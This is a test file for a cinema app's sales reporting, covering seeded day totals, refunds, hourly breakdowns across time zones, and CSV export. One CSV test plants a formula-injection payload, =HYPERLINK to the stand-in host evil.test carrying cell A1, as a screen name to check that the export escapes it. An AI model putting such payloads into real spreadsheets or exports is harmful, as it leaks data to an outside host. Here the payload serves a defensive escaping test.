// Sales figures against a seeded day whose answer is known: money counts on the cinema's calendar
// day it moved (paid, refunded), tickets are paid seats not refunded, and abandoned holds count nothing.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashPassword } from '../auth/password';
import { salesCsv } from './load-sales';
import { seedCinema } from '../test/fixtures';
import { refusal } from '../test/refusal';
import { cookieJar, createStaffClient } from '../test/staff-client';
import { createTestContext, type TTestContext } from '../test/test-context';
import { startTestServer, type TTestServer } from '../test/test-server';

let ctx: TTestContext;
let server: TTestServer;
let manager: ReturnType<typeof createStaffClient>;
let showtimeId: string;

type TSeeded = {
  channel: 'KIOSK' | 'WEB';
  status: 'CONFIRMED' | 'REFUNDED' | 'PENDING' | 'EXPIRED';
  seats: number;
  amountPaise: number;
  confirmedAt: string | null;
  refundedAt?: string;
  /** How the captured payment was made. */
  method?: 'CHECKOUT' | 'UPI_QR';
};

// 2026-11-20 in Asia/Kolkata runs from 2026-11-19T18:30Z to 2026-11-20T18:30Z.
const SEEDED: TSeeded[] = [
  {
    channel: 'KIOSK',
    status: 'CONFIRMED',
    seats: 2,
    amountPaise: 50_000,
    confirmedAt: '2026-11-19T18:30:00.000Z',
    method: 'UPI_QR',
  }, // 00:00 IST on the 20th: counts
  {
    channel: 'WEB',
    status: 'CONFIRMED',
    seats: 3,
    amountPaise: 75_000,
    confirmedAt: '2026-11-20T18:29:59.000Z',
    method: 'CHECKOUT',
  }, // 23:59:59 IST: counts
  {
    channel: 'WEB',
    status: 'CONFIRMED',
    seats: 1,
    amountPaise: 25_000,
    confirmedAt: '2026-11-20T18:30:00.000Z',
    method: 'UPI_QR',
  }, // 00:00 IST on the 21st: not the 20th
  {
    channel: 'WEB',
    status: 'REFUNDED',
    seats: 1,
    amountPaise: 30_000,
    confirmedAt: '2026-11-20T06:00:00.000Z',
    refundedAt: '2026-11-20T09:00:00.000Z',
    method: 'CHECKOUT',
  }, // paid and refunded the same day
  {
    channel: 'KIOSK',
    status: 'REFUNDED',
    seats: 2,
    amountPaise: 40_000,
    confirmedAt: '2026-11-18T10:00:00.000Z',
    refundedAt: '2026-11-20T10:00:00.000Z',
    method: 'UPI_QR',
  }, // paid on the 18th, refunded on the 20th
  { channel: 'WEB', status: 'PENDING', seats: 2, amountPaise: 50_000, confirmedAt: null },
  { channel: 'KIOSK', status: 'EXPIRED', seats: 4, amountPaise: 80_000, confirmedAt: null },
];

// A week earlier, for the hourly comparison: Friday 2026-11-13 IST, and its neighbours that must not count.
const WEEK_BEFORE: TSeeded[] = [
  {
    channel: 'WEB',
    status: 'CONFIRMED',
    seats: 1,
    amountPaise: 20_000,
    confirmedAt: '2026-11-13T04:40:00.000Z',
    method: 'CHECKOUT',
  }, // 10:10 IST
  {
    channel: 'KIOSK',
    status: 'CONFIRMED',
    seats: 2,
    amountPaise: 40_000,
    confirmedAt: '2026-11-13T04:59:00.000Z',
    method: 'UPI_QR',
  }, // 10:29 IST
  {
    channel: 'WEB',
    status: 'CONFIRMED',
    seats: 4,
    amountPaise: 80_000,
    confirmedAt: '2026-11-13T14:00:00.000Z',
    method: 'CHECKOUT',
  }, // 19:30 IST
  {
    channel: 'WEB',
    status: 'CONFIRMED',
    seats: 1,
    amountPaise: 9_000,
    confirmedAt: '2026-11-12T18:29:00.000Z',
    method: 'CHECKOUT',
  }, // 23:59 IST on the 12th
  {
    channel: 'WEB',
    status: 'CONFIRMED',
    seats: 1,
    amountPaise: 7_000,
    confirmedAt: '2026-11-06T05:00:00.000Z',
    method: 'CHECKOUT',
  }, // two weeks before
];

beforeAll(async () => {
  ctx = await createTestContext();
  const { cinemaId } = await seedCinema(ctx.prisma);
  server = await startTestServer(ctx);
  await ctx.prisma.staffUser.create({
    data: {
      email: 'sales@cinema.test',
      name: 'Sales Manager',
      role: 'MANAGER',
      cinemaId,
      passwordHash: await hashPassword('sales manager password'),
    },
  });
  manager = createStaffClient(server.url);
  await manager.manager.login.mutate({ email: 'sales@cinema.test', password: 'sales manager password' });

  const screen = await ctx.prisma.screen.findFirstOrThrow({
    where: { name: 'Audi 2' },
    include: { seats: { orderBy: { label: 'asc' } } },
  });
  const movie = await ctx.prisma.movie.findFirstOrThrow();
  const startsAt = new Date('2026-11-20T15:30:00.000Z'); // 21:00 IST
  showtimeId = (
    await ctx.prisma.showtime.create({
      data: { movieId: movie.id, screenId: screen.id, startsAt, endsAt: new Date(startsAt.getTime() + 3 * 3600_000) },
    })
  ).id;
  await ctx.prisma.seatBlock.create({ data: { showtimeId, seatId: screen.seats.at(-1)!.id, reason: 'broken' } });
  const earlyStart = new Date('2026-11-13T15:30:00.000Z');
  const earlyShowtimeId = (
    await ctx.prisma.showtime.create({
      data: {
        movieId: movie.id,
        screenId: screen.id,
        startsAt: earlyStart,
        endsAt: new Date(earlyStart.getTime() + 3 * 3600_000),
      },
    })
  ).id;
  let seat = 0;
  const seed = async (i: number, b: TSeeded, showtime: string) => {
    const id = randomUUID();
    const paymentId = `pay_sales${i}`;
    await ctx.prisma.booking.create({
      data: {
        id,
        code: `SALES${i}`,
        showtimeId: showtime,
        status: b.status,
        channel: b.channel,
        holder: `web:sales-${i}`,
        amountPaise: b.amountPaise,
        expiresAt: new Date('2026-11-20T20:00:00.000Z'),
        confirmedAt: b.confirmedAt ? new Date(b.confirmedAt) : null,
        razorpayPaymentId: b.confirmedAt ? paymentId : null,
        seats: {
          create: Array.from({ length: b.seats }, () => ({
            showtimeId: showtime,
            seatId: screen.seats[seat++ % screen.seats.length]!.id,
            pricePaise: b.amountPaise / b.seats,
            active: b.status === 'CONFIRMED' || b.status === 'PENDING',
          })),
        },
      },
    });
    let paymentRowId: string | null = null;
    if (b.method || b.refundedAt) {
      // As settlement records it: the captured attempt carries the booking's payment id.
      paymentRowId = randomUUID();
      await ctx.prisma.paymentAttempt.create({
        data: {
          id: paymentRowId,
          bookingId: id,
          method: b.method ?? 'CHECKOUT',
          status: 'CAPTURED',
          razorpayOrderId: `order_sales${i}`,
          razorpayPaymentId: paymentId,
          amountPaise: b.amountPaise,
          // Captured when the booking was confirmed: payments count on the day they are taken.
          ...(b.confirmedAt ? { createdAt: new Date(b.confirmedAt), updatedAt: new Date(b.confirmedAt) } : {}),
        },
      });
    }
    if (b.refundedAt) {
      await ctx.prisma.refund.create({
        data: {
          bookingId: id,
          paymentId: paymentRowId!,
          razorpayPaymentId: paymentId,
          amountPaise: b.amountPaise,
          status: 'PROCESSED',
          reason: 'test',
          requestedBy: 'MANAGER',
          createdAt: new Date(b.refundedAt),
        },
      });
    }
  };
  for (const [i, b] of SEEDED.entries()) await seed(i, b, showtimeId);
  for (const [i, b] of WEEK_BEFORE.entries()) await seed(100 + i, b, earlyShowtimeId);
  // A failed attempt for a confirmed booking does not count: only the captured payment's method does.
  const first = await ctx.prisma.booking.findFirstOrThrow({ where: { code: 'SALES1' } });
  await ctx.prisma.paymentAttempt.create({
    data: {
      bookingId: first.id,
      method: 'UPI_QR',
      status: 'FAILED',
      razorpayOrderId: 'order_failed',
      amountPaise: 75_000,
    },
  });
});
afterAll(async () => {
  await server?.close();
  await ctx?.close();
});

describe('sales', () => {
  it('counts a seeded day exactly: by channel, by day, refunds included, holds excluded', async () => {
    const sales = await manager.sales.report.query({ from: '2026-11-20', to: '2026-11-20' });
    expect(sales.totals).toEqual({
      tickets: 5,
      grossPaise: 155_000,
      refundedPaise: 70_000,
      netPaise: 85_000,
      bookings: 2,
    });
    expect(sales.byChannel).toEqual({
      KIOSK: { tickets: 2, grossPaise: 50_000, refundedPaise: 40_000, netPaise: 10_000, bookings: 1 },
      WEB: { tickets: 3, grossPaise: 105_000, refundedPaise: 30_000, netPaise: 75_000, bookings: 1 },
      BOX_OFFICE: { tickets: 0, grossPaise: 0, refundedPaise: 0, netPaise: 0, bookings: 0 },
    });
    expect(sales.byDay).toEqual([{ date: '2026-11-20', ...sales.totals }]);
    expect(sales.showtimes).toEqual([
      // Sold: the confirmed bookings' seats (2 + 3 + 1), whenever they were paid.
      expect.objectContaining({
        showtimeId,
        capacity: 90,
        sold: 6,
        blocked: 1,
        revenuePaise: 150_000,
        startsAt: '2026-11-20T15:30:00.000Z',
      }),
    ]);
  });

  it('splits a range into days that add up to its totals', async () => {
    const sales = await manager.sales.report.query({ from: '2026-11-18', to: '2026-11-21' });
    expect(sales.byDay.map((d) => [d.date, d.grossPaise, d.refundedPaise, d.tickets])).toEqual([
      ['2026-11-18', 40_000, 0, 0],
      ['2026-11-19', 0, 0, 0],
      ['2026-11-20', 105_000 + 50_000, 70_000, 5],
      ['2026-11-21', 25_000, 0, 1],
    ]);
    const sum = (k: 'grossPaise' | 'refundedPaise' | 'tickets' | 'netPaise') =>
      sales.byDay.reduce((s, d) => s + d[k], 0);
    expect(sales.totals).toMatchObject({
      grossPaise: sum('grossPaise'),
      refundedPaise: sum('refundedPaise'),
      tickets: sum('tickets'),
      netPaise: sum('netPaise'),
    });
    expect(sales.byChannel.KIOSK.grossPaise + sales.byChannel.WEB.grossPaise).toBe(sales.totals.grossPaise);
  });

  it('exports the same figures as CSV for the signed-in manager', async () => {
    const cookie = [...cookieJar(manager)].map(([k, v]) => `${k}=${v}`).join('; ');
    const res = await fetch(`${server.url}/manager/sales.csv?from=2026-11-20&to=2026-11-20`, { headers: { cookie } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    const lines = (await res.text()).trim().split('\n');
    expect(lines[0]).toBe(
      'section,date or show,show time (Asia/Kolkata),screen,tickets,gross (INR),refunded (INR),net (INR),capacity,sold,occupancy %',
    );
    expect(lines).toContain('day,2026-11-20,,,5,1550.00,700.00,850.00,,,');
    // 15:30 UTC is 21:00 on the cinema's clock.
    expect(lines.find((l) => l.startsWith('show,'))).toMatch(
      /^show,[^,]+,2026-11-20 21:00,Audi 2,6,1500.00,,,90,6,6.7$/,
    );
  });

  it('writes a screen named like a formula as text, not a live formula, in the CSV', async () => {
    const screen = await ctx.prisma.screen.findFirstOrThrow({ where: { name: 'Audi 2' } });
    await ctx.prisma.screen.update({
      where: { id: screen.id },
      data: { name: '=HYPERLINK("http://evil.test/?"&A1,"Click")' },
    });
    try {
      const cookie = [...cookieJar(manager)].map(([k, v]) => `${k}=${v}`).join('; ');
      const res = await fetch(`${server.url}/manager/sales.csv?from=2026-11-20&to=2026-11-20`, { headers: { cookie } });
      const show = (await res.text()).split('\n').find((l) => l.startsWith('show,'));
      expect(show).toContain(`,2026-11-20 21:00,"'=HYPERLINK(""http://evil.test/?""&A1,""Click"")",6,1500.00,`);
    } finally {
      await ctx.prisma.screen.update({ where: { id: screen.id }, data: { name: 'Audi 2' } });
    }
  });

  it('escapes every formula start (= + - @ tab CR) in text, and leaves negative figures numbers', () => {
    const figures = { tickets: 0, grossPaise: 0, refundedPaise: 70_000, netPaise: -70_000, bookings: 1 };
    const names = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', 'Audi 3'];
    const csv = salesCsv({
      from: '2026-11-20',
      to: '2026-11-20',
      timeZone: 'Asia/Kolkata',
      totals: figures,
      byChannel: { KIOSK: figures, WEB: figures, BOX_OFFICE: figures },
      byDay: [{ ...figures, date: '2026-11-20' }],
      byMethod: {
        CHECKOUT: { payments: 0, paidPaise: 0 },
        UPI_QR: { payments: 0, paidPaise: 0 },
        CASH: { payments: 0, paidPaise: 0 },
      },
      complimentaryTickets: 0,
      showtimes: names.map((screenName) => ({
        showtimeId: randomUUID(),
        movieTitle: 'A film',
        screenName,
        startsAt: '2026-11-20T10:00:00.000Z',
        cancelled: false,
        capacity: 10,
        sold: 0,
        blocked: 0,
        revenuePaise: 0,
      })),
    });
    expect(csv).toContain('day,2026-11-20,,,0,0.00,700.00,-700.00,,,\n');
    const screens = csv
      .trim()
      .split(/\n(?=show,)/)
      .filter((l) => l.startsWith('show,'))
      .map((l) => l.split(',')[3]);
    expect(screens).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", `"'\r=1"`, 'Audi 3']);
  });

  it('splits the payments by method (captured attempt only), adding up to the paid total', async () => {
    const sales = await manager.sales.report.query({ from: '2026-11-20', to: '2026-11-20' });
    expect(sales.byMethod).toEqual({
      CHECKOUT: { payments: 2, paidPaise: 105_000 },
      UPI_QR: { payments: 1, paidPaise: 50_000 },
      CASH: { payments: 0, paidPaise: 0 },
    });
    const range = await manager.sales.report.query({ from: '2026-11-01', to: '2026-11-30' });
    const { CHECKOUT, UPI_QR } = range.byMethod;
    expect(CHECKOUT.paidPaise + UPI_QR.paidPaise).toBe(range.totals.grossPaise);
    // Payments include the refunded bookings' (counted when paid); bookings counts the ones still confirmed.
    const refundedPaid = 2;
    expect(CHECKOUT.payments + UPI_QR.payments).toBe(range.totals.bookings + refundedPaid);
  });

  it("gives a day hour by hour on the cinema's clock, adding up to the day's totals", async () => {
    const hourly = await manager.sales.hourly.query({ date: '2026-11-20' });
    expect(hourly).toMatchObject({ date: '2026-11-20', weekBefore: '2026-11-13', timeZone: 'Asia/Kolkata' });
    expect(hourly.hours.map((h) => h.hour)).toEqual(Array.from({ length: 24 }, (_, i) => i));
    const busy = hourly.hours
      .filter((h) => h.day.grossPaise || h.day.refundedPaise)
      .map((h) => [h.hour, h.day.tickets, h.day.grossPaise, h.day.refundedPaise]);
    expect(busy).toEqual([
      [0, 2, 50_000, 0], // 00:00 IST
      [11, 0, 30_000, 0], // paid 11:30 IST, refunded later that day
      [14, 0, 0, 30_000],
      [15, 0, 0, 40_000],
      [23, 3, 75_000, 0], // 23:59:59 IST
    ]);
    const day = (await manager.sales.report.query({ from: '2026-11-20', to: '2026-11-20' })).totals;
    const sum = (k: keyof typeof day) => hourly.hours.reduce((s, h) => s + h.day[k], 0);
    expect({
      tickets: sum('tickets'),
      grossPaise: sum('grossPaise'),
      refundedPaise: sum('refundedPaise'),
      netPaise: sum('netPaise'),
      bookings: sum('bookings'),
    }).toEqual(day);
  });

  it('sets the same weekday a week earlier beside it, that day only', async () => {
    const hourly = await manager.sales.hourly.query({ date: '2026-11-20' });
    const before = hourly.hours
      .filter((h) => h.weekBefore.grossPaise)
      .map((h) => [h.hour, h.weekBefore.tickets, h.weekBefore.grossPaise]);
    expect(before).toEqual([
      [10, 3, 60_000],
      [19, 4, 80_000],
    ]);
    const earlier = (await manager.sales.report.query({ from: '2026-11-13', to: '2026-11-13' })).totals;
    expect(hourly.hours.reduce((s, h) => s + h.weekBefore.grossPaise, 0)).toBe(earlier.grossPaise);
    expect(hourly.hours.reduce((s, h) => s + h.weekBefore.tickets, 0)).toBe(earlier.tickets);
    // The week before's own week before is two weeks back.
    const prior = await manager.sales.hourly.query({ date: '2026-11-13' });
    expect(prior.weekBefore).toBe('2026-11-06');
    expect(prior.hours.find((h) => h.hour === 10)!.weekBefore.grossPaise).toBe(7_000);
    // Across a month's end.
    expect((await manager.sales.hourly.query({ date: '2026-12-03' })).weekBefore).toBe('2026-11-26');
  });

  it('follows a cinema at +05:45 (Asia/Kathmandu): hours, day bounds and CSV times on its clock', async () => {
    const cinema = await ctx.prisma.cinema.findFirstOrThrow();
    await ctx.prisma.cinema.update({ where: { id: cinema.id }, data: { timeZone: 'Asia/Kathmandu' } });
    try {
      const hourly = await manager.sales.hourly.query({ date: '2026-11-20' });
      // 18:30Z on the 19th is 00:15 on the 20th; 18:29:59Z on the 20th is already 00:14 on the 21st.
      expect(
        hourly.hours.filter((h) => h.day.grossPaise || h.day.refundedPaise).map((h) => [h.hour, h.day.grossPaise]),
      ).toEqual([
        [0, 50_000],
        [11, 30_000], // 06:00Z is 11:45
        [14, 0], // refund at 09:00Z is 14:45
        [15, 0],
      ]);
      const day = (await manager.sales.report.query({ from: '2026-11-20', to: '2026-11-20' })).totals;
      expect(hourly.hours.reduce((s, h) => s + h.day.grossPaise, 0)).toBe(day.grossPaise);
      expect(hourly.hours.reduce((s, h) => s + h.day.tickets, 0)).toBe(day.tickets);
      const cookie = [...cookieJar(manager)].map(([k, v]) => `${k}=${v}`).join('; ');
      const res = await fetch(`${server.url}/manager/sales.csv?from=2026-11-20&to=2026-11-20`, { headers: { cookie } });
      const lines = (await res.text()).trim().split('\n');
      expect(lines[0]).toContain(',show time (Asia/Kathmandu),');
      expect(lines.find((l) => l.startsWith('show,'))).toContain(',2026-11-20 21:15,Audi 2,');
    } finally {
      await ctx.prisma.cinema.update({ where: { id: cinema.id }, data: { timeZone: cinema.timeZone } });
    }
  });

  it('refuses an hourly day that is not a date, with a clear message', async () => {
    expect(await refusal(manager.sales.hourly.query({ date: '20-11-2026' }))).toMatchObject({
      data: { code: 'BAD_REQUEST' },
    });
  });

  it('refuses a backwards or too long range with a clear message', async () => {
    expect(await refusal(manager.sales.report.query({ from: '2026-11-21', to: '2026-11-20' }))).toMatchObject({
      data: { fieldErrors: { from: 'must not be after "to"' } },
    });
    expect(await refusal(manager.sales.report.query({ from: '2024-01-01', to: '2026-11-20' }))).toMatchObject({
      data: { fieldErrors: { to: 'at most a year at a time' } },
    });
    expect(await refusal(manager.sales.report.query({ from: '20-11-2026', to: '2026-11-20' }))).toMatchObject({
      data: { code: 'BAD_REQUEST' },
    });
  });
});
